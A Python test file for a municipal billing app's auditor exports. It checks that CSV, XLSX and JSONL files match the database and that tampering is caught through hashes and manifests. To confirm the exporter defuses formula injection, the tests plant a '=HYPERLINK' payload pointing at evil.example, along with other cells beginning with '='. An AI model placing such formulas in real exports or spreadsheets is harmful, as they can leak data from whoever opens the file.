"""Auditor exports: every dataset in every format says what the database says, and a ledger
export proves by itself that nothing in it was changed or left out."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
import subprocess
import sys
from datetime import date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import sqlalchemy as sa

from accounts.models import Account
from billing.models import Invoice
from core.audit import Actor, record
from core.extensions import db
from core.models import AuditEvent
from ledger import chart
from ledger.balances import trial_balance
from ledger.export_verify import verify_export
from ledger.exports import ExportRequest, ExportRun, write_export
from ledger.models import JournalEntry, JournalLine
from ledger.posting import EntrySpec, credit, debit, post_entries, post_entry, reverse_entry
from payments.models import Channel, Payment, Tender
from payments.services import record_payment, settle_payment
from tests.billing.billing_fixtures import bill_households

ROOT = Path(__file__).resolve().parents[2]
JOB = Actor.job("test")
CLERK = Actor("user", "7", "clerk@example.org", "127.0.0.1")
#: A memo that CSV must quote and a spreadsheet must not run.
AWKWARD_MEMO = '=1+1, "quoted" — naïve\nsecond line\rand a carriage return'
DATASET_COUNTS = {
    "ledger": JournalLine,
    "payments": Payment,
    "invoices": Invoice,
    "audit": AuditEvent,
}


def pay_and_settle(number: str, cents: int, on: date) -> int:
    """A card payment that Stripe confirmed and the webhook settled; returns its id."""
    account = db.session.scalar(sa.select(Account).where(Account.number == number))
    payment = record_payment(
        db.session,
        JOB,
        account=account,
        amount_cents=cents,
        invoice_numbers=[],
        channel=Channel.ONLINE,
        tender=Tender.CARD,
    )
    settle_payment(db.session, JOB, payment, on=on, cash_gl=chart.STRIPE_CLEARING)
    db.session.commit()
    return payment.id


@pytest.fixture
def town(app):
    """Three billed households (Nov 2), two card payments (Nov 20), a correction with an
    awkward memo and its reversal (Nov 21-22): ledger, payments, invoices and audit rows."""
    billed = bill_households(app, "Ada Quist", "Ben Ortiz", "Cy Lund")
    with app.app_context():
        pay_and_settle(billed[0].number, billed[0].owed_cents, date(2026, 11, 20))
        pay_and_settle(billed[1].number, 1234, date(2026, 11, 20))
        entry = post_entry(
            db.session,
            [debit(chart.CASH_DRAWER, 500), credit("4010", 500)],
            entry_date=date(2026, 11, 21),
            source_type="adjustment",
            source_id=None,
            actor=CLERK,
            memo=AWKWARD_MEMO,
        )
        reverse_entry(db.session, entry, actor=CLERK, entry_date=date(2026, 11, 22), memo="")
        db.session.commit()
    return billed


def export(app, tmp_path, dataset, file_format="csv", name=None, **filters) -> tuple[Path, dict]:
    """Write an export with the real exporter; returns the file and its manifest."""
    path = tmp_path / (name or f"{dataset}.{file_format}")
    request = ExportRequest(dataset, file_format, **filters)
    with app.app_context():
        manifest = write_export(db.engine, request, path, timezone="America/Chicago")
    return path, manifest


def read_back(path: Path, file_format: str) -> list[dict]:
    """The rows of an export with ordinary readers: csv, openpyxl, json."""
    if file_format == "csv":
        with open(path, newline="", encoding="utf-8") as stream:
            # NOTE: as docs/audit.md says to read a CSV cell: one leading quote off.
            return [
                {k: v[1:] if v.startswith("'") else v for k, v in row.items()}
                for row in csv.DictReader(stream)
            ]
    if file_format == "jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    book = openpyxl.load_workbook(path, read_only=True)
    rows = []
    for sheet in book.worksheets:
        values = list(sheet.iter_rows(values_only=True))
        rows += [dict(zip(values[0], row, strict=True)) for row in values[1:]]
    book.close()
    return rows


def cents(value) -> int:
    """An amount read back from any format: CSV gives text, XLSX and JSON numbers."""
    return 0 if value in (None, "") else int(value)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def count(model) -> int:
    return db.session.scalar(sa.select(sa.func.count()).select_from(model))


@pytest.mark.parametrize("file_format", ["csv", "xlsx", "jsonl"])
@pytest.mark.parametrize("dataset", ["ledger", "payments", "invoices", "audit"])
def test_each_export_holds_every_row_of_the_database_and_its_sums(
    app, town, tmp_path, dataset, file_format
):
    path, manifest = export(app, tmp_path, dataset, file_format)
    rows = read_back(path, file_format)
    with app.app_context():
        assert len(rows) == manifest["rows"] == count(DATASET_COUNTS[dataset]) > 0
        if dataset == "ledger":
            report = trial_balance(db.session)
            debits = sum(cents(r["debit_cents"]) for r in rows)
            credits = sum(cents(r["credit_cents"]) for r in rows)
            assert debits == credits == report.total_debit_cents == report.total_credit_cents
            assert AWKWARD_MEMO in {r["memo"] for r in rows}
        elif dataset == "payments":
            paid = db.session.scalar(sa.select(sa.func.sum(Payment.amount_cents)))
            assert sum(cents(r["amount_cents"]) for r in rows) == paid
            assert all(r["receipt_number"] for r in rows)
        elif dataset == "invoices":
            totals = db.session.execute(
                sa.select(sa.func.sum(Invoice.total_cents), sa.func.sum(Invoice.balance_cents))
            ).one()
            assert sum(cents(r["total_cents"]) for r in rows) == totals[0]
            assert sum(cents(r["balance_cents"]) for r in rows) == totals[1]
            assert {r["number"] for r in rows} == {b.invoice_number for b in town}
        else:
            ids = db.session.scalars(sa.select(AuditEvent.id).order_by(AuditEvent.id)).all()
            assert [cents(r["id"]) for r in rows] == ids
            summary = rows[0]["summary"]
            assert isinstance(json.loads(summary) if isinstance(summary, str) else summary, dict)
    assert manifest["sha256"] == sha256(path)
    assert manifest["bytes"] == path.stat().st_size
    assert json.loads((tmp_path / f"{path.name}.manifest.json").read_text()) == manifest


def test_a_csv_cell_a_spreadsheet_would_run_is_written_as_text_and_still_verifies(
    app, town, tmp_path, runner
):
    path, _manifest = export(app, tmp_path, "ledger", "csv")
    with open(path, newline="", encoding="utf-8") as stream:
        memos = [row["memo"] for row in csv.DictReader(stream)]
    assert "'" + AWKWARD_MEMO in memos and AWKWARD_MEMO not in memos
    assert not any(m[:1] in "=+-@\t\r" for m in memos if m)
    checked = runner.invoke(args=["ledger", "verify", "--export", str(path)])
    assert checked.exit_code == 0, checked.output
    with app.app_context():
        # what someone types as their e-mail on the sign-in form lands in the audit log
        typed = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        record(db.session, Actor("anonymous", None, typed, "127.0.0.1"), "user.login_failed")
        db.session.commit()
    audit, _ = export(app, tmp_path, "audit", "csv")
    with open(audit, newline="", encoding="utf-8") as stream:
        cells = [v for row in csv.DictReader(stream) for v in row.values() if v]
    assert not any(v[:1] in "=+-@\t\r" for v in cells)
    assert "'" + typed in cells


def test_the_ledger_export_keeps_awkward_text_exact_in_every_format(app, town, tmp_path):
    for file_format in ("csv", "xlsx", "jsonl"):
        path, _manifest = export(app, tmp_path, "ledger", file_format)
        memos = [r["memo"] for r in read_back(path, file_format)]
        assert AWKWARD_MEMO in memos, file_format
    # NOTE: a spreadsheet must show the memo, never compute it.
    book = openpyxl.load_workbook(tmp_path / "ledger.xlsx")
    cells = [c for row in book.active.iter_rows() for c in row if c.value == AWKWARD_MEMO]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_manifest_records_the_chain_head_of_the_same_snapshot(app, town, tmp_path):
    path, manifest = export(app, tmp_path, "ledger")
    with app.app_context():
        last = db.session.execute(
            sa.select(JournalEntry.seq, JournalEntry.hash).order_by(JournalEntry.seq.desc())
        ).first()
    assert manifest["chain"] == {"length": last.seq, "head_seq": last.seq, "head_hash": last.hash}
    rows = read_back(path, "csv")
    assert (int(rows[-1]["seq"]), rows[-1]["hash"]) == tuple(last)
    assert manifest["dataset"] == "ledger" and manifest["format"] == "csv"
    assert manifest["munibill_version"] and manifest["created_at"].endswith("Z")
    assert manifest["columns"][:3] == ["seq", "entry_date", "posted_at"]


def test_an_export_through_an_earlier_seq_reproduces_the_earlier_file(app, town, tmp_path):
    first, manifest = export(app, tmp_path, "ledger", name="before.csv")
    with app.app_context():
        post_entry(
            db.session,
            [debit(chart.CASH_DRAWER, 700), credit("4010", 700)],
            entry_date=date(2026, 11, 3),
            source_type="adjustment",
            source_id="A-9",
            actor=CLERK,
        )
        db.session.commit()
    again, pinned = export(
        app, tmp_path, "ledger", name="again.csv", through_seq=manifest["chain"]["length"]
    )
    assert pinned["sha256"] == manifest["sha256"] and again.read_bytes() == first.read_bytes()
    assert verify_export(again).ok


def test_what_is_posted_while_an_export_streams_is_in_neither_the_file_nor_its_manifest(
    app, town, tmp_path
):
    with app.app_context():
        before = db.session.scalar(sa.select(sa.func.max(JournalEntry.seq)))
        run = ExportRun(db.engine, ExportRequest("ledger", "jsonl")).open()
        post_entry(
            db.session,
            [debit(chart.CASH_DRAWER, 900), credit("4010", 900)],
            entry_date=date(2026, 11, 2),
            source_type="adjustment",
            source_id="A-10",
            actor=CLERK,
        )
        db.session.commit()
        with run, open(tmp_path / "ledger.jsonl", "wb") as target:
            run.write(target)
        assert db.session.scalar(sa.select(sa.func.max(JournalEntry.seq))) == before + 1
    rows = read_back(tmp_path / "ledger.jsonl", "jsonl")
    assert max(r["seq"] for r in rows) == before == run.head.length
    assert run.manifest("ledger.jsonl")["rows"] == len(rows)
    # The same holds for tables that have no seq to cut at: the snapshot does it.
    with app.app_context():
        run = ExportRun(db.engine, ExportRequest("payments", "csv")).open()
        pay_and_settle(town[2].number, 100, date(2026, 11, 21))
        with run:
            rows = list(csv.DictReader(b"".join(run.chunks()).decode().splitlines()))
        assert len(rows) == 2 and count(Payment) == 3


@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
def test_ledger_verify_passes_on_a_fresh_export(app, town, tmp_path, runner, file_format):
    path, manifest = export(app, tmp_path, "ledger", file_format)
    result = runner.invoke(args=["ledger", "verify", "--export", str(path)])
    assert result.exit_code == 0, result.output
    assert result.output.startswith(f"OK: {manifest['chain']['length']} entries (seq 1-")
    assert "SHA-256 and" in result.output


def _rewrite(path: Path, change) -> None:
    """Change one row of a CSV export with the csv module, as an editor would."""
    with open(path, newline="", encoding="utf-8") as stream:
        rows = list(csv.reader(stream))
    change(rows)
    with open(path, "w", newline="", encoding="utf-8") as stream:
        csv.writer(stream, lineterminator="\n").writerows(rows)


def _column(rows, name) -> int:
    return rows[0].index(name)


def _bump_amount(rows):
    i = _column(rows, "debit_cents")
    row = next(r for r in rows[1:] if r[i] != "0")
    row[i] = row[i][:-1] + str((int(row[i][-1]) + 1) % 10)


def _flip_hash(rows):
    i = _column(rows, "hash")
    rows[4][i] = ("1" if rows[4][i][0] != "1" else "2") + rows[4][i][1:]


def _touch_memo(rows):
    i = _column(rows, "memo")
    row = next(r for r in rows[1:] if r[i] == "'" + AWKWARD_MEMO)
    row[i] = row[i].replace("naïve", "naive")


def _touch_memo_on_every_line(rows):
    i = _column(rows, "memo")
    for row in rows[1:]:
        row[i] = row[i].replace("naïve", "naive")


def _drop_one_line(rows):
    del rows[2]


def _drop_whole_entry(rows):
    seq = _column(rows, "seq")
    rows[:] = [r for r in rows if r[seq] != "3"]


@pytest.mark.parametrize("keep_manifest", [True, False])
@pytest.mark.parametrize(
    ("change", "says"),
    [
        (_bump_amount, "hash does not match its content"),
        (_flip_hash, "differs from the same entry's row"),
        (_touch_memo, "its memo differs from the same entry's row"),
        (_touch_memo_on_every_line, "hash does not match its content"),
        (_drop_one_line, "has lines [1, 3"),
        (_drop_whole_entry, "entry 3 is missing"),
    ],
)
def test_ledger_verify_fails_on_a_changed_byte_or_a_removed_row(
    app, town, tmp_path, runner, change, says, keep_manifest
):
    path, _manifest = export(app, tmp_path, "ledger")
    original = path.read_bytes()
    _rewrite(path, change)
    assert path.read_bytes() != original
    changed = path.read_bytes()
    if change in (_bump_amount, _flip_hash):
        assert sum(a != b for a, b in zip(changed, original, strict=True)) == 1
    if change is _touch_memo:  # "ï" (two bytes in UTF-8) became "i"
        assert len(changed) == len(original) - 1
    if not keep_manifest:
        (tmp_path / "ledger.csv.manifest.json").unlink()
    result = runner.invoke(args=["ledger", "verify", "--export", str(path)])
    assert result.exit_code == 1, result.output
    assert result.output.startswith("FAILED: ")
    assert says in result.output
    assert re.search(r"rows? \d+", result.output) or "entry 3 is missing" in result.output


def test_removing_the_newest_entries_is_found_through_the_manifest(app, town, tmp_path):
    path, _manifest = export(app, tmp_path, "ledger")
    _rewrite(path, lambda rows: rows.__delitem__(slice(-2, None)))
    report = verify_export(path)
    assert not report.ok
    assert "ends at entry 6 but the ledger held 7 entries" in report.problem


def test_a_changed_file_with_intact_content_fails_on_the_manifest_sha256(app, town, tmp_path):
    path, _manifest = export(app, tmp_path, "ledger")
    path.write_bytes(path.read_bytes().replace(b",job:test,", b',"job:test",', 1))
    assert verify_export(path, tmp_path / "missing.json").problem.startswith("cannot read")
    report = verify_export(path)
    assert report.problem == "the file's SHA-256 does not match the manifest (the file was changed)"


def test_date_source_and_gl_filters_pick_whole_entries(app, town, tmp_path):
    path, manifest = export(
        app, tmp_path, "ledger", date_from=date(2026, 11, 20), date_to=date(2026, 11, 21)
    )
    rows = read_back(path, "csv")
    assert {r["entry_date"] for r in rows} == {"2026-11-20", "2026-11-21"}
    assert manifest["filters"] == {"from": "2026-11-20", "to": "2026-11-21"}
    assert verify_export(path).ok
    # Entries that touch Stripe clearing, with all their lines so each hash can be checked.
    path, _manifest = export(app, tmp_path, "ledger", name="gl.csv", gl=chart.STRIPE_CLEARING)
    rows = read_back(path, "csv")
    assert {r["source_type"] for r in rows} == {"payment"}
    assert chart.STRIPE_CLEARING in {r["gl_code"] for r in rows}
    assert {r["gl_code"] for r in rows} - {chart.STRIPE_CLEARING}
    assert verify_export(path).ok
    path, _manifest = export(app, tmp_path, "ledger", name="src.csv", source="invoice")
    assert {r["source_type"] for r in read_back(path, "csv")} == {"invoice"}
    report = verify_export(path)
    assert report.ok and report.entries == 3


def test_a_gap_in_a_filtered_export_needs_its_manifest(app, town, tmp_path):
    path, _manifest = export(app, tmp_path, "ledger", source="adjustment")
    assert verify_export(path).ok  # entries 6 and 7 only: no gap
    path, _manifest = export(app, tmp_path, "ledger", name="inv.csv", gl="4010")
    report = verify_export(path)
    assert report.ok and report.gaps >= 1, report.summary()
    (tmp_path / "inv.csv.manifest.json").unlink()
    assert "is missing" in verify_export(path).problem


def test_payment_invoice_and_audit_filters(app, town, tmp_path):
    today = datetime.now(ZoneInfo("America/Chicago")).date()
    path, _m = export(app, tmp_path, "payments", date_from=today + timedelta(days=1))
    assert read_back(path, "csv") == []
    path, _m = export(app, tmp_path, "payments", date_from=today, date_to=today)
    assert len(read_back(path, "csv")) == 2
    path, _m = export(app, tmp_path, "invoices", date_to=date(2026, 11, 1))
    assert read_back(path, "csv") == []
    path, _m = export(app, tmp_path, "invoices", date_from=date(2026, 11, 2))
    assert len(read_back(path, "csv")) == 3
    path, _m = export(app, tmp_path, "audit", action="payment.")
    actions = {r["action"] for r in read_back(path, "csv")}
    assert actions and all(a.startswith("payment.") for a in actions)
    path, _m = export(app, tmp_path, "audit", actor="job:test", file_format="jsonl")
    rows = read_back(path, "jsonl")
    assert rows and {r["actor"] for r in rows} == {"job:test"}


def test_the_export_command_writes_the_file_and_its_manifest(app, town, tmp_path, runner):
    out = tmp_path / "payments.jsonl"
    today = datetime.now(ZoneInfo("America/Chicago")).date().isoformat()
    result = runner.invoke(
        args=["export", "payments", "--format", "jsonl", "--from", today, "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    manifest = json.loads((tmp_path / "payments.jsonl.manifest.json").read_text())
    assert manifest["rows"] == 2 and manifest["sha256"] == sha256(out)
    assert manifest["period"] == {
        "from": today,
        "to": None,
        "dated_by": "created_at",
        "time_zone": "America/Chicago",
    }
    assert f"{manifest['sha256']}" in result.output
    refused = runner.invoke(args=["export", "payments", "--gl", "1000", "--out", str(out)])
    assert refused.exit_code == 2 and "no gl filter" in refused.output


def test_an_auditor_downloads_exports_and_manifests_through_the_api(
    app, town, tmp_path, client, api_headers
):
    auditor = api_headers("auditor")
    response = client.get("/api/v1/exports/ledger?format=csv", headers=auditor)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == 'attachment; filename="ledger.csv"'
    body = response.get_data()
    length = int(response.headers["X-Ledger-Length"])
    path, _manifest = export(app, tmp_path, "ledger")
    assert body == path.read_bytes()
    manifest = client.get(
        f"/api/v1/exports/ledger/manifest?format=csv&through_seq={length}", headers=auditor
    ).get_json()
    assert manifest["sha256"] == hashlib.sha256(body).hexdigest()
    assert manifest["chain"]["head_hash"] == response.headers["X-Ledger-Head-Hash"]
    download = tmp_path / "downloaded.csv"
    download.write_bytes(body)
    (tmp_path / "downloaded.csv.manifest.json").write_text(json.dumps(manifest))
    assert verify_export(download).ok

    sheet = client.get("/api/v1/exports/invoices?format=xlsx&from=2026-11-01", headers=auditor)
    assert sheet.status_code == 200 and sheet.mimetype.endswith("spreadsheetml.sheet")
    assert "invoices_2026-11-01_now.xlsx" in sheet.headers["Content-Disposition"]
    assert sheet.headers["X-Export-SHA256"] == hashlib.sha256(sheet.get_data()).hexdigest()
    assert sheet.headers["X-Export-Rows"] == "3"
    sheet.close()

    lines = client.get("/api/v1/exports/audit?format=jsonl&action=payment.", headers=auditor)
    assert lines.mimetype == "application/jsonl"
    assert all(json.loads(x)["action"].startswith("payment.") for x in lines.text.splitlines())


def test_exports_need_a_token_and_valid_filters(app, town, client, api_headers):
    assert client.get("/api/v1/exports/ledger").status_code == 401
    assert client.get("/api/v1/exports/ledger/manifest").status_code == 401
    auditor = api_headers("auditor")
    assert client.get("/api/v1/exports/ledgers", headers=auditor).status_code == 404
    bad = client.get("/api/v1/exports/payments?gl=1000", headers=auditor)
    assert bad.status_code == 422 and "gl" in bad.get_json()["errors"]
    bad = client.get("/api/v1/exports/ledger?from=2026-11-30&to=2026-11-01", headers=auditor)
    assert bad.status_code == 422 and "to" in bad.get_json()["errors"]
    bad = client.get("/api/v1/exports/ledger?through_seq=99", headers=auditor)
    assert bad.status_code == 422 and "through_seq" in bad.get_json()["errors"]
    assert client.get("/api/v1/exports/ledger?format=pdf", headers=auditor).status_code == 422


def test_the_verifier_imports_no_database_layer_and_runs_alone(app, town, tmp_path):
    probe = (
        "import sys, ledger.export_verify as v; "
        "bad = [m for m in sys.modules if m.split('.')[0] in "
        "('sqlalchemy', 'flask', 'core', 'psycopg') or m.startswith('ledger.models')]; "
        "print(bad); sys.exit(1 if bad else 0)"
    )
    done = subprocess.run([sys.executable, "-c", probe], cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    path, _manifest = export(app, tmp_path, "ledger", "jsonl")
    alone = tmp_path / "export_verify.py"
    alone.write_bytes((ROOT / "ledger" / "export_verify.py").read_bytes())
    done = subprocess.run(
        [sys.executable, str(alone), str(path)], cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 0 and done.stdout.startswith("OK: 7 entries"), done.stderr
    path.write_text(path.read_text().replace('"debit_cents":500,', '"debit_cents":501,', 1))
    done = subprocess.run(
        [sys.executable, str(alone), str(path)], cwd=tmp_path, capture_output=True, text=True
    )
    assert done.returncode == 1 and "hash does not match its content" in done.stderr


def _recipes() -> dict[str, str]:
    """The fenced code blocks of docs/audit.md that carry a file name comment."""
    text = (ROOT / "docs" / "audit.md").read_text()
    blocks = re.findall(r"```(?:python|sh)\n(.*?)```", text, flags=re.S)
    named = {}
    for block in blocks:
        first = block.splitlines()[0]
        if first.startswith("# recipe: "):
            named[first.removeprefix("# recipe: ").strip()] = block
    return named


def test_the_auditors_recipes_in_docs_audit_md_work(app, town, tmp_path):
    recipes = _recipes()
    assert {"check_ledger.py", "sha256.sh"} <= recipes.keys()
    (tmp_path / "check_ledger.py").write_text(recipes["check_ledger.py"])
    (tmp_path / "sha256.sh").write_text(recipes["sha256.sh"])
    path, _manifest = export(app, tmp_path, "ledger", name="ledger.csv")
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}:{os.environ['PATH']}"}
    done = subprocess.run(
        ["bash", "sha256.sh"], cwd=tmp_path, capture_output=True, text=True, env=env
    )
    assert done.returncode == 0 and "ledger.csv: OK" in done.stdout, done.stdout + done.stderr
    done = subprocess.run(
        [sys.executable, "check_ledger.py", "ledger.csv"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    with app.app_context():
        report = trial_balance(db.session)
    for row in report.rows:
        assert f"{row.code} {row.debit_cents} {row.credit_cents}" in done.stdout
    assert f"total {report.total_debit_cents} {report.total_credit_cents}" in done.stdout
    _rewrite(path, _touch_memo)
    done = subprocess.run(
        [sys.executable, "check_ledger.py", "ledger.csv"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 1 and "entry 6" in done.stdout + done.stderr
    done = subprocess.run(
        ["bash", "sha256.sh"], cwd=tmp_path, capture_output=True, text=True, env=env
    )
    assert done.returncode != 0


@pytest.mark.postgres
def test_copy_and_the_python_writer_give_the_same_csv_bytes(app, town, tmp_path):
    for dataset in ("ledger", "payments", "invoices"):
        request = ExportRequest(dataset)
        with app.app_context():
            fast = write_export(db.engine, request, tmp_path / "copy.csv", use_copy=True)
            slow = write_export(db.engine, request, tmp_path / "python.csv", use_copy=False)
        assert (tmp_path / "copy.csv").read_bytes() == (tmp_path / "python.csv").read_bytes()
        assert fast["rows"] == slow["rows"] > 0 and fast["sha256"] == slow["sha256"]


#: Runs `munibill export` in this child and reports its own peak memory (VmHWM) at exit.
CHILD = """
import sys
from core.cli import main
try:
    main()
finally:
    peak = next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM"))
    sys.stderr.write(f"VmHWM {peak}\\n")
"""


def _fill_ledger(entries: int, start: int) -> None:
    """Post entries of two lines each through post_entries, in batches."""
    for offset in range(0, entries, 10_000):
        specs = [
            EntrySpec(
                [debit(chart.CASH_DRAWER, n % 9_000 + 1), credit("4010", n % 9_000 + 1)],
                date(2026, 11, 1 + n % 28),
                "payment",
                f"P-{n}",
                memo=f"counter payment {n}",
            )
            for n in range(start + offset, start + min(offset + 10_000, entries))
        ]
        post_entries(db.session, specs, actor=JOB)
        db.session.commit()


def _export_peak_kib(database_url: str, instance: Path, out: Path, file_format: str) -> int:
    env = {
        **os.environ,
        "DATABASE_URL": database_url,
        "SECRET_KEY": "m" * 40,
        "MUNIBILL_INSTANCE_PATH": str(instance),
        "MUNIBILL_DOTENV": os.devnull,
    }
    done = subprocess.run(
        [
            sys.executable,
            "-c",
            CHILD,
            "export",
            "ledger",
            "--format",
            file_format,
            "--out",
            str(out),
        ],
        env=env,
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return next(int(x.split()[1]) for x in done.stderr.splitlines() if x.startswith("VmHWM"))


@pytest.mark.postgres
@pytest.mark.slow
def test_export_memory_stays_flat_from_20_000_to_200_000_journal_lines(
    app, database_url, instance, tmp_path
):
    with app.app_context():
        _fill_ledger(10_000, 0)
    small = {
        f: _export_peak_kib(database_url, instance, tmp_path / f"s.{f}", f)
        for f in ("csv", "jsonl", "xlsx")
    }
    with app.app_context():
        _fill_ledger(90_000, 10_000)
    large = {
        f: _export_peak_kib(database_url, instance, tmp_path / f"l.{f}", f)
        for f in ("csv", "jsonl", "xlsx")
    }
    for file_format in small:
        grown_mib = (large[file_format] - small[file_format]) / 1024
        assert grown_mib < 30, f"{file_format}: {small} -> {large} KiB"
    manifest = json.loads((tmp_path / "l.csv.manifest.json").read_text())
    assert manifest["rows"] == 200_000
    assert verify_export(tmp_path / "l.csv").ok
    assert verify_export(tmp_path / "l.jsonl").ok
